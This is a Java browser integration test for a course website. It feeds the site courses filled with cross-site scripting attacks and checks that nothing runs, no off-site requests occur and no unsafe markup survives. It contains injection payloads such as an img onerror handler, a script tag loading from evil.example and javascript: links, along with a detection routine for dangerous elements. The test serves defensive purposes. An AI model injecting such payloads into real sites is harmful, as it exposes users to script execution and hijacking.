package org.kinshipready.journey;

import static org.assertj.core.api.Assertions.assertThat;

import com.microsoft.playwright.BrowserContext;
import com.microsoft.playwright.Page;
import com.microsoft.playwright.options.Cookie;
import java.io.IOException;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;
import org.kinshipready.content.Course;
import org.kinshipready.content.CourseModule;
import org.kinshipready.content.Step;
import org.springframework.util.FileSystemUtils;

/** Courses full of attacks, read in a real browser with JavaScript and without the policy that would stop scripts. */
class HostileCourseIT {

    /** What a browser could act on, whatever brought it onto the page. */
    private static final String ODDITIES = """
            () => {
              const odd = [];
              const site = location.origin;
              const reachable = address => ['https:', 'mailto:', 'tel:', 'sms:'].includes(new URL(address).protocol)
                  || address.startsWith(site + '/');
              // The site's own, in the head where no course can put anything.
              const own = e => e.parentNode === document.head && /^\\/(queue|keep-(en|cy|ur)|phone)-[0-9a-f]{32}[.]js$/.test(e.getAttribute('src'));
              for (const e of document.querySelectorAll('*')) {
                for (const a of e.attributes) {
                  if (/^on|^style$|^srcdoc$|^formaction$|^ping$|^background$/i.test(a.name)) {
                    odd.push(e.localName + ' has ' + a.name);
                  }
                }
                if (!own(e) && (e.namespaceURI !== 'http://www.w3.org/1999/xhtml'
                    || /^(script|iframe|frame|object|embed|applet|base|style|template|video|audio|marquee|x-.*)$/.test(e.localName)
                    || e.shadowRoot)) {
                  odd.push('<' + e.localName + '>');
                }
              }
              for (const a of document.querySelectorAll('[href]')) {
                if (!reachable(a.href)) odd.push('link to ' + a.href);
              }
              for (const e of document.querySelectorAll('img[src], link[href]')) {
                if (!(e.src || e.href).startsWith(site + '/')) odd.push('fetches ' + (e.src || e.href));
              }
              for (const f of document.forms) {
                if (!f.action.startsWith(site + '/')) odd.push('form to ' + f.action);
              }
              if (document.querySelector('meta[http-equiv]')) odd.push('meta');
              return odd;
            }""";

    private static final Path COURSES = HostileCourses.write();

    @RegisterExtension
    static final PackagedApplication application = new PackagedApplication("--lms.courses=" + COURSES);

    private static Chromium chromium;

    private final Course pages = HostileCourses.read(COURSES, HostileCourses.PAGES);
    private final Course questions = HostileCourses.read(COURSES, HostileCourses.QUESTIONS);
    private final List<String> troubles = new ArrayList<>();
    private int attacksSeen;
    private BrowserContext context;
    private Page page;

    @BeforeAll
    static void openBrowser() {
        chromium = Chromium.launch();
    }

    @AfterAll
    static void closeBrowser() throws IOException {
        if (chromium != null) {
            chromium.close();
        }
        FileSystemUtils.deleteRecursively(COURSES);
    }

    @BeforeEach
    void watch() {
        context = chromium.careless();
        // Some modules are sensitive: the notice about the exit button would hide what is attacked.
        context.addCookies(List.of(new Cookie("told", "1").setUrl(application.address())));
        context.exposeFunction("ran", words -> troubles.add("Something ran"));
        context.onRequest(request -> {
            if (!request.url().startsWith(application.address() + "/")) {
                troubles.add("Asked for " + request.url());
            }
        });
        context.onDialog(dialog -> {
            troubles.add("Said " + dialog.message());
            dialog.dismiss();
        });
        page = context.newPage();
        page.onPopup(popup -> troubles.add("Opened " + popup.url()));
    }

    @AfterEach
    void close() {
        context.close();
    }

    @Test
    void noticesWhatRuns() {
        page.navigate(application.address() + "/");
        page.setContent("<img src=x onerror=ran()><script src=https://evil.example/a.js></script><b style=a>");
        page.waitForCondition(() -> troubles.contains("Something ran"));

        assertThat(troubles).contains("Asked for https://evil.example/a.js");
        assertThat(oddities()).contains("img has onerror", "b has style", "<script>");
    }

    @Test
    void nothingRunsForReaders() {
        for (String address :
                List.of("/", "/preparatory", "/ongoing", "/help", "/worried", "/about", "/glossary", "/sign-in")) {
            opens(address);
        }
        Stream.of(pages, questions).forEach(this::readsAll);
        assertThat(troubles).isEmpty();
        assertThat(attacksSeen).as("attacks that reached a page, as words").isGreaterThan(2_000);
    }

    private void readsAll(Course course) {
        opens(course.address());
        assertThat(words("h1")).isEqualTo(squeezed(course.title()));
        for (CourseModule module : course.modules()) {
            opens(course.address() + "/" + module.id());
            assertThat(words("h1")).isEqualTo(squeezed(module.title()));
            module.steps().forEach(step -> reads(course.address() + "/" + module.id() + "/" + step.id(), step));
        }
    }

    private void reads(String address, Step step) {
        opens(address);
        assertThat(words("h1")).isEqualTo(squeezed(step.title()));
        if (step instanceof Step.Quiz) {
            page.evaluate("() => document.querySelectorAll('main input[value=\"0\"]').forEach(i => i.checked = true)");
            page.locator("main form button").click();
            looksAround();
        } else if (step instanceof Step.Scenario scenario) {
            scenario.choices().stream().limit(3).forEach(choice -> opens(address + "?choice=" + choice.id()));
        }
    }

    @Test
    void nothingRunsForManagers() {
        opens("/sign-in");
        page.getByLabel("Account name").fill("manager");
        page.getByLabel("Password").fill("trial");
        page.locator("main form button").click();
        opens("/manage");
        assertThat(page.locator("main").textContent())
                .contains("pages 1.0.0", "questions 1.0.0", "preparatory/broken/course.md")
                .contains("<script>ran()</script>", "<img src=x onerror=ran()>", "javascript:ran()");
        for (Course course : List.of(pages, questions)) {
            opens("/manage" + course.address());
            opens(course.address());
            page.locator("main form button").click();
            looksAround();
            opens(course.address() + "/m0");
            course.modules().getFirst().steps().forEach(step -> opens(course.address() + "/m0/" + step.id()));
        }
        opens("/my-learning");
        assertThat(words("main")).contains(squeezed(pages.title()));
        assertThat(troubles).isEmpty();
    }

    private void opens(String address) {
        assertThat(page.navigate(application.address() + address).status())
                .as(address)
                .isEqualTo(200);
        looksAround();
    }

    private void looksAround() {
        assertThat(oddities()).as(page.url()).isEmpty();
        attacksSeen += words("main").split("ran\\(\\)", -1).length - 1;
        assertThat(page.frames()).as(page.url()).hasSize(1);
        assertThat(page.url()).startsWith(application.address() + "/");
    }

    private List<String> oddities() {
        return ((List<?>) page.evaluate(ODDITIES)).stream().map(String::valueOf).toList();
    }

    private String words(String selector) {
        return squeezed(page.locator(selector).first().textContent());
    }

    /** As a browser has it: it leaves out some characters that nobody sees. */
    private static String squeezed(String text) {
        return text.replaceAll("[\\p{Cc}\uFFFD&&\\S]", "")
                .replaceAll("\\s+", " ")
                .strip();
    }
}
